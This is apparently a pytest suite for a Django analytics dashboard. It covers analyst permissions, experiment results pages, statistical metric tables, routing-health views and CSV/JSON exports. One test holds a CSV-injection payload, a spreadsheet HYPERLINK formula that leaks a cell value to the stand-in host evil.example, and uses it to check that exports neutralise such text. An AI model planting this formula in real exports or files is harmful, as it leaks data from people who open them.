"""The analyst pages (analytics/views.py): permissions, content, switches and exports."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.utils import timezone

from analytics.dashboards import ResultsOptions, metric_table
from analytics.models import CallRollup, ResultSnapshot
from tests.analytics.dashboard_data import build_dashboard_experiment

PAGES = ["/results/", "/results/ana/", "/routing/health/"]


@pytest.fixture
def staff(client, db):
    """A client logged in as a member of the shipped Analyst group (created by a migration)."""
    user = get_user_model().objects.create_user("analyst", "a@example.com", "pw", is_staff=True)
    user.groups.add(Group.objects.get(name="Analyst"))
    client.force_login(user)
    return client


@pytest.fixture
def ana(db):
    return build_dashboard_experiment()


@pytest.mark.django_db
@pytest.mark.parametrize("url", PAGES)
def test_pages_need_a_staff_login(client, url, ana):
    anonymous = client.get(url)
    assert anonymous.status_code == 302 and "/admin/login/" in anonymous["Location"]
    client.force_login(get_user_model().objects.create_user("viewer", "v@example.com", "pw"))
    assert client.get(url).status_code == 302  # logged in but not staff


@pytest.mark.django_db
@pytest.mark.parametrize("url", PAGES)
def test_a_staff_user_without_a_role_gets_a_403_page_that_says_why(client, url, ana):
    """It was Django's bare "403 Forbidden" with an empty paragraph."""
    client.force_login(get_user_model().objects.create_user("no-role", "n@example.com", "pw", is_staff=True))
    refused = client.get(url)
    assert refused.status_code == 403
    page = refused.content.decode()
    assert "signed in as <strong>no-role</strong>" in page and "lacks the permission" in page
    assert "<em>Analyst</em>" in page and 'href="/admin/"' in page


def test_experiments_list_shows_units_split_srm_verdict_and_filters(staff, ana):
    page = staff.get("/results/").content.decode()
    assert '<a href="/results/ana/">ana</a>' in page and "Faster Avocado for subagents" in page
    assert "90" in page  # units so far
    assert "control 33.3 %" in page  # split per variant
    assert "Sample ratio" in page and 'title="code: running"' in page
    assert '"/results/ana/"' not in staff.get("/results/", {"status": "draft"}).content.decode()
    assert "No experiment matches." in staff.get("/results/", {"q": "nothing-like-this"}).content.decode()
    assert '"/results/ana/"' in staff.get("/results/", {"q": "avocado", "status": "running"}).content.decode()


def test_experiments_list_links_bandits_rollouts_and_shadow_tests_to_their_pages(staff, ana):
    from decimal import Decimal

    from analytics.formatting import percent
    from muse_experiments.experiments.models import Experiment
    from muse_experiments.experiments.services.rollouts import rollout_create
    from muse_experiments.experiments.services.shadow import shadow_test_create
    from routing.catalogue import avocado_id
    from routing.models import ModelEndpoint
    from tests.factories import make_experiment

    make_experiment(key="band")
    Experiment.objects.filter(key="band").update(type="bandit")
    v14, v15 = (ModelEndpoint.objects.get(public_id=avocado_id(n)) for n in (14, 15))
    ramp = rollout_create(
        key="ramp", candidate=v15, current=v14, steps=[1, 5, 100], step_min_minutes=0, step_min_units=0,
        guardrails=["error_rate"], actor="t",
    )  # fmt: skip
    shadow_test_create(
        key="sh", name="Shadow 14", candidate="avocado-v14", source={"model": avocado_id(15)},
        sample_percent=10, judge=None, max_usd_per_day=Decimal(1), allow_external=False, actor="t",
    )  # fmt: skip
    page = staff.get("/results/").content.decode()
    assert '<a href="/results/band/#bandit">bandit</a>' in page
    assert (
        f'<a href="/results/ramp/#rollout">rollout {percent(ramp.percent / 100)}: draft (not started)</a>'
        in page
    )
    assert '<td class="k-link">A/B</td>' in page  # ana: an A/B test, no section to link
    assert '<a href="/results/shadow/sh/">sh</a><br><span class="muted small">Shadow 14</span>' in page
    shadow = staff.get("/results/", {"export": "json", "table": "shadow-tests"}).json()
    assert [(r["key"], r["status"], r["candidate"], r["pairs"]) for r in shadow["rows"]] == [
        ("sh", "draft", avocado_id(14), 0)
    ]
    # without the permission to view shadow tests the list leaves them out (their page is a 403)
    user = get_user_model().objects.create_user("no-shadow", "n@example.com", "pw", is_staff=True)
    group = Group.objects.create(name="Analyst without shadow tests")
    group.permissions.set(Group.objects.get(name="Analyst").permissions.exclude(codename="view_shadowtest"))
    user.groups.add(group)
    staff.force_login(user)
    assert "/results/shadow/sh/" not in staff.get("/results/").content.decode()
    assert staff.get("/results/shadow/sh/").status_code == 403


def test_results_page_has_health_forest_plot_lift_power_and_distributions(staff, ana):
    response = staff.get("/results/ana/")
    assert response.status_code == 200
    page = response.content.decode()
    for text in (
        "Sample ratio OK",
        "New units per day (UTC days)",
        "Lift with its 95 % confidence interval (scale per metric)",
        "Cumulative relative lift of task_success",
        "MDE now",
        "Days still needed",
        "Latency p95",
        "Results as of",
        "/admin/muse_experiments/experiment/",
    ):
        assert text in page, text
    assert "Recompute now" not in page  # an analyst may not recompute (README "Roles")
    assert page.count('<svg class="forest') >= 6  # 3 metrics × 2 treatments at least
    assert " UTC</strong>" in page  # the snapshot time states its zone
    assert 'title="' + ana.endpoints["control"] + '">avocado-v14<' in page  # label, id on hover
    assert "e-0" not in page and "e-06" not in page  # no scientific notation anywhere
    assert "Cost per 1,000 calls" in page and "$0.00800" in page  # the cheap arm's $0.000008 a call
    assert "$0.0000" not in page


def test_each_metric_gets_a_forest_scale_that_clips_an_outlier_treatment():
    from analytics.dashboards.metrics import forest_axis

    lo, hi = forest_axis([(-0.1, 0.12)])
    assert lo == pytest.approx(-0.1 - 0.08 * 0.22) and hi == pytest.approx(0.12 + 0.08 * 0.22)
    # one treatment at +4,467 %…+9,112 % beside one at −66.7 %…−32.8 %: clipped at 3 × 0.667
    lo, hi = forest_axis([(-0.667, -0.328), (44.67, 91.12)])
    assert lo == pytest.approx(-0.667 - 0.08 * 2.668) and hi == pytest.approx(2.001 + 0.08 * 2.668)
    assert forest_axis([(None, None)]) is None
    assert forest_axis([(-0.9, -0.5), (-0.95, -0.2)])[0] == -1.0  # never below −100 %


def test_switches_change_what_the_metric_table_shows(staff, ana):
    freq = staff.get("/results/ana/").content.decode()
    bayes = staff.get("/results/ana/", {"engine": "bayesian"}).content.decode()
    assert "p-value" in freq and "Chance to beat control" not in freq
    assert "Chance to beat control" in bayes and "credible interval" in bayes
    served = staff.get("/results/ana/", {"analysis": "served"}).content.decode()
    assert "Served as assigned: only units" in served
    metric = staff.get("/results/ana/", {"metric": "latency_ms"}).content.decode()
    assert "Cumulative relative lift of latency_ms" in metric
    future = staff.get("/results/ana/", {"from": "2099-01-01"}).content.decode()
    assert '"labels": []' in future  # the date range empties the time series
    bad = staff.get("/results/ana/", {"engine": "magic", "phase": "9", "from": "yesterday"}).content.decode()
    assert "Unknown engine" in bad and "No phase" in bad and "must be a date" in bad
    last_day = staff.get("/results/ana/", {"to": "9999-12-31"})  # its end is past date.max
    assert last_day.status_code == 200 and "must be a date" in last_day.content.decode()
    export = staff.get("/results/ana/", {"to": "9999-12-31", "export": "csv", "table": "metrics"})
    assert export.status_code == 200


def test_every_table_exports_csv_and_json_with_raw_values(staff, ana):
    for table in ("split", "metrics", "power", "calls", "kills"):
        js = staff.get("/results/ana/", {"export": "json", "table": table})
        assert js.status_code == 200 and js.json()["table"] == table
        assert "attachment" in js["Content-Disposition"]
        cs = staff.get("/results/ana/", {"export": "csv", "table": table})
        assert cs.status_code == 200 and cs["Content-Type"].startswith("text/csv")
    metrics = staff.get("/results/ana/", {"export": "json", "table": "metrics"}).json()["rows"]
    latency = next(r for r in metrics if r["metric_name"] == "latency_ms" and r["variant"] == "fast")
    assert latency["relative_lift"] < -0.3 and latency["test"] == "sequential"  # the guardrail's test
    split = staff.get("/results/ana/", {"export": "json", "table": "split"}).json()["rows"]
    assert [r["endpoint_label"] for r in split] == ["avocado-v14", "avocado-v15", "muse-special"]
    calls = list(
        csv.DictReader(
            io.StringIO(staff.get("/results/ana/", {"export": "csv", "table": "calls"}).content.decode())
        )
    )
    assert [r["variant"] for r in calls] == ["control", "fast", "cheap"]
    # 30 units per arm with 1, 2 and 3 calls each; the control arm also has one fallback call
    assert [int(r["calls"]) for r in calls] == [31, 60, 90]
    assert staff.get("/results/", {"export": "json", "table": "experiments"}).json()["rows"][0]["units"] == 90
    health = staff.get("/routing/health/", {"export": "csv", "table": "endpoints"})
    assert health.status_code == 200 and "endpoint_label" in health.content.decode().splitlines()[0]
    assert staff.get("/results/ana/", {"export": "xml", "table": "metrics"}).status_code == 404
    assert staff.get("/results/ana/", {"export": "csv", "table": "nope"}).status_code == 404


def test_routing_health_reads_the_rollup(staff, ana):
    assert CallRollup.objects.filter(experiment_id=ana.experiment.id).exists()
    page = staff.get("/routing/health/").content.decode()
    since = (timezone.now().replace(minute=0, second=0, microsecond=0) - timedelta(hours=1)).strftime("%H:%M")
    assert "Model catalogue and routing health" in page and f"Since {since} UTC" in page
    assert "Windows are whole rollup hours" in page
    export = staff.get("/routing/health/", {"export": "json", "table": "endpoints"}).json()
    rows = export["rows"]
    v14 = next(r for r in rows if r["endpoint_label"] == "avocado-v14")
    assert v14["calls_day"] == 10 and v14["circuit"] == "closed" and v14["killed"] == "live"
    assert 900 <= v14["p50_day"] <= 1500
    # first token: the first call of each unit is streamed, at a quarter of its latency
    assert 0.2 < v14["ttft_p50_day"] / v14["p50_day"] < 0.3 and v14["ttft_p95_day"] >= v14["ttft_p50_day"]
    assert "p50_hour" in v14 and "ttft_p50_hour" in v14  # not on the page, still exported
    idle = [
        r["endpoint_label"]
        for r in rows
        if r["calls_day"] == 0 and r["endpoint_label"].startswith("avocado-v")
    ]
    assert idle == sorted(idle, key=lambda label: int(label.removeprefix("avocado-v")))  # v2 before v10
    assert len(idle) >= 10
    labels = {c["key"]: c["label"] for c in export["columns"]}
    assert labels["calls_hour"] == f"Calls (Since {since} UTC)" and labels["ttft_p95_day"].startswith(
        "First token p95 (Last 24 hours"
    )


def test_recompute_button_enqueues_a_snapshot(client, ana, django_capture_on_commit_callbacks):
    from muse_experiments.celery import app

    user = get_user_model().objects.create_user("pm", "pm@example.com", "pw", is_staff=True)
    user.groups.add(Group.objects.get(name="Product manager"))  # recomputing is a write
    client.force_login(user)
    assert "Recompute now" in client.get("/results/ana/").content.decode()  # offered to a PM
    before = ana.experiment.results.count()
    app.conf.task_always_eager = True  # the task runs in this process, on the test database
    try:
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post("/results/ana/recompute")
    finally:
        app.conf.task_always_eager = False
    assert response.status_code == 302 and response["Location"] == "/results/ana/"
    assert ana.experiment.results.count() == before + 1
    assert client.get("/results/ana/recompute").status_code == 405


def test_an_experiment_without_results_says_what_to_do(staff, db):
    from tests.factories import make_experiment, seed_catalogue

    seed_catalogue()
    make_experiment(key="fresh")
    page = staff.get("/results/fresh/").content.decode()
    assert "No results computed yet for phase 1" in page and "Recompute now" not in page  # an analyst


def test_a_snapshot_without_units_says_the_sample_ratio_is_not_tested_not_ok(staff, db):
    """It said "Sample ratio OK: the observed split matches the weights (chi-square p = , No data)"."""
    from analytics.services import results_compute
    from tests.factories import make_experiment, seed_catalogue

    seed_catalogue()
    results_compute(experiment=make_experiment(key="fresh"))
    page = staff.get("/results/fresh/").content.decode()
    assert "Sample ratio not tested" in page and "no units observed yet" in page
    assert "Sample ratio OK" not in page and "p = ," not in page


def test_api_docs_are_served_from_local_static_files(client):
    for url in ("/api/docs/", "/api/redoc/"):
        page = client.get(url).content.decode()
        # no script, style or image from another host (the page's random CSRF token may hold "cdn")
        assert re.findall(r"""(?:src|href)\s*=\s*["']?(?:https?:)?//""", page) == []
        assert "/static/drf_spectacular_sidecar/" in page


@pytest.mark.parametrize(("zone", "abbreviation"), [("UTC", "UTC"), ("Europe/Berlin", "CET")])
def test_dates_state_the_reporting_time_zone_on_the_admin_and_the_results_page(
    client, ana, settings, zone, abbreviation
):
    settings.TIME_ZONE = zone  # what MUSE_REPORTING_TIME_ZONE sets
    staff = client
    staff.force_login(get_user_model().objects.create_superuser("pm", "pm@example.com", "pw"))
    admin_list = staff.get("/admin/muse_experiments/experiment/").content.decode()
    assert f" {abbreviation}</td>" in admin_list  # started_at, e.g. "2026-12-01 09:30 CET"
    results = staff.get("/results/ana/").content.decode()
    assert f" {abbreviation}</strong>" in results and f"Times in {zone}" in results


def test_a_kill_reads_since_when_it_went_on_not_when_its_reason_was_last_edited(ana):
    from datetime import timedelta

    from django.utils import timezone

    from analytics.dashboards import kills_table
    from muse_experiments.experiments.models import Experiment
    from routing.models import KillScope, KillSwitch
    from routing.ops_services import kill_switch_set

    kill_switch_set(scope=KillScope.EXPERIMENT, target="ana", active=True, reason="bad answers", actor="pm")
    went_on = KillSwitch.objects.get(scope=KillScope.EXPERIMENT, target="ana").active_since
    later = went_on + timedelta(hours=3)
    KillSwitch.objects.filter(scope=KillScope.EXPERIMENT, target="ana").update(
        reason="bad answers, still investigating", updated_at=later
    )
    (row,) = kills_table(experiment=Experiment.objects.get(key="ana")).rows
    assert went_on is not None and went_on <= timezone.now()
    assert row["since"] == went_on and row["reason"] == "bad answers, still investigating"


def test_each_metric_row_shows_the_p_ci_and_verdict_of_one_test(staff, ana):
    """Primary/secondary rows: the fixed-horizon relative test; guardrail rows: the sequential test
    the guardrail rule uses; the verdict follows the shown p (p < alpha iff the CI excludes 0)."""
    snap = ResultSnapshot.objects.filter(experiment=ana.experiment).latest("computed_at")
    comparisons = {
        (m["name"], c["variant"]): (m, c) for m in snap.results["metrics"] for c in m["comparisons"]
    }
    rows = staff.get("/results/ana/", {"export": "json", "table": "metrics"}).json()["rows"]
    checked = 0
    for r in rows:
        if not r["variant"]:
            continue
        m, c = comparisons[(r["metric_name"], r["variant"])]
        checked += 1
        guardrail = m["role"] == "guardrail"
        test = c["sequential"] if guardrail else c
        assert r["test"] == ("sequential" if guardrail else "fixed")
        if not test["relative_ci"]:  # no lone p-value: the status says why
            assert r["p_value"] is None and r["ci_low"] is None
            expected = test["relative_status"] if test["status"] == "ok" else test["status"]
            if expected == "zero_variance":  # both arms constant: the certain difference's direction
                better = (c["absolute_lift"] > 0) == m["higher_is_better"]
                expected = "constant_better" if better else "constant_worse"
            assert r["verdict"] == expected
            assert r["verdict"] not in ("better", "worse", "inconclusive")
            continue
        assert r["ci_low"] == test["relative_ci"][0] and r["ci_high"] == test["relative_ci"][1]
        assert r["p_value"] == test["relative_p_value"]
        significant = r["p_value"] < 0.05
        assert significant == (not r["ci_low"] <= 0 <= r["ci_high"])
        if not significant:
            assert r["verdict"] == ("guardrail_ok" if guardrail else "inconclusive")
        elif guardrail:
            assert r["verdict"] in ("guardrail_no_harm", "worse")
        else:
            assert r["verdict"] in ("better", "worse")
    assert checked >= 6
    # the latency guardrail (fast arm 50 % faster): the sequential p, never the fixed-horizon one
    fast = next(r for r in rows if r["metric_name"] == "latency_ms" and r["variant"] == "fast")
    assert fast["p_value"] == comparisons[("latency_ms", "fast")][1]["sequential"]["relative_p_value"]
    assert fast["p_value"] != comparisons[("latency_ms", "fast")][1]["relative_p_value"]


def test_a_row_without_a_relative_ci_shows_its_status_not_a_lone_p_value():
    comparison = {
        "variant": "t",
        "status": "ok",
        "alpha": 0.05,
        "p_value": 0.366,
        "relative_p_value": None,
        "relative_lift": None,
        "relative_ci": None,
        "relative_status": "control_mean_near_zero",
        "reason": "relative lift suppressed: control mean is not distinguishable from 0",
        "verdict": "inconclusive",
    }
    body = {
        "variants": [{"key": "c", "is_control": True}, {"key": "t"}],
        "metrics": [
            {
                "name": "latency_ms",
                "role": "guardrail",
                "status": "ok",
                "higher_is_better": False,
                "variants": [],
                "comparisons": [{**comparison, "sequential": dict(comparison, p_value=0.9)}],
            }
        ],
    }
    (row,) = metric_table(body=body, options=ResultsOptions(phase=1)).rows
    assert row["p_value"] is None and row["verdict"] == "control_mean_near_zero"
    assert "not distinguishable from 0" in row["verdict_why"]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def test_csv_exports_write_a_metric_label_and_a_kill_reason_as_text_not_formulas(staff, ana):
    """CSV injection (issue 30, finding 3): text a spreadsheet would evaluate gets OWASP's quote."""
    from analytics.models import MetricDefinition
    from analytics.services import results_compute
    from routing.models import KillScope
    from routing.ops_services import kill_switch_set

    MetricDefinition.objects.filter(name="task_success").update(label=FORMULA)
    results_compute(experiment=ana.experiment)
    kill_switch_set(scope=KillScope.EXPERIMENT, target="ana", active=True, reason=FORMULA, actor="pm")

    def export(table: str) -> list[dict[str, str]]:
        response = staff.get("/results/ana/", {"export": "csv", "table": table})
        assert response.status_code == 200
        return list(csv.DictReader(io.StringIO(response.content.decode())))

    metrics = export("metrics")
    labels = {r["metric"] for r in metrics if r["metric_name"] == "task_success"}
    assert labels == {"'" + FORMULA}
    latency = next(r for r in metrics if r["metric_name"] == "latency_ms" and r["variant"] == "fast")
    assert float(latency["relative_lift"]) < -0.3  # a negative float stays a number
    assert latency["relative_lift"].startswith("-")
    assert [r["reason"] for r in export("kills")] == ["'" + FORMULA]
    # the JSON export keeps the raw value (it is not opened by spreadsheets)
    kills = staff.get("/results/ana/", {"export": "json", "table": "kills"}).json()["rows"]
    assert [r["reason"] for r in kills] == [FORMULA]


def test_each_row_names_how_its_interval_was_built(staff, ana):
    """Issue 32: the result says which interval it is, and the page shows it next to the interval."""
    rows = staff.get("/results/ana/", {"export": "json", "table": "metrics"}).json()["rows"]
    methods = {(r["metric_name"], r["variant"]): r["interval"] for r in rows if r["variant"]}
    assert methods[("task_success", "fast")] == "mover_r"  # a conversion rate: Wilson-based
    assert methods[("latency_ms", "fast")] == "confidence_sequence"  # the guardrail's sequence
    page = staff.get("/results/ana/").content.decode()
    assert "MOVER-R (Wilson)" in page and "Always-valid sequence" in page and ">Interval<" in page
    bayes = staff.get("/results/ana/", {"engine": "bayesian", "export": "json", "table": "metrics"}).json()
    success = next(r for r in bayes["rows"] if r["metric_name"] == "task_success" and r["variant"] == "fast")
    assert success["interval"] == "beta_binomial"
    assert "Beta posteriors" in staff.get("/results/ana/", {"engine": "bayesian"}).content.decode()


def test_the_cuped_column_says_why_cuped_is_not_used(staff, ana):
    rows = staff.get("/results/ana/", {"export": "json", "table": "metrics"}).json()["rows"]
    assert {r["cuped"] for r in rows if r["variant"]} == {"no: metric has no covariate"}


def test_a_current_phase_without_units_opens_the_latest_phase_with_units(staff, ana):
    """A bandit's or rollout's last weight change opens a phase no unit has entered yet: the page
    opens on the latest phase with units and says so; asking for the empty phase still shows it."""
    from muse_experiments.experiments.services.lifecycle import experiment_rerandomise

    experiment = experiment_rerandomise(experiment=ana.experiment, actor="test")
    assert experiment.phase == 2
    page = staff.get("/results/ana/").content.decode()
    assert "Phase 2 has no units yet: showing phase 1, the latest with units." in page
    assert "No results computed yet for phase 1" not in page  # phase 1's snapshots are shown
    asked = staff.get("/results/ana/", {"phase": "2"}).content.decode()
    assert "has no units yet" not in asked and "No results computed yet for phase 2" in asked
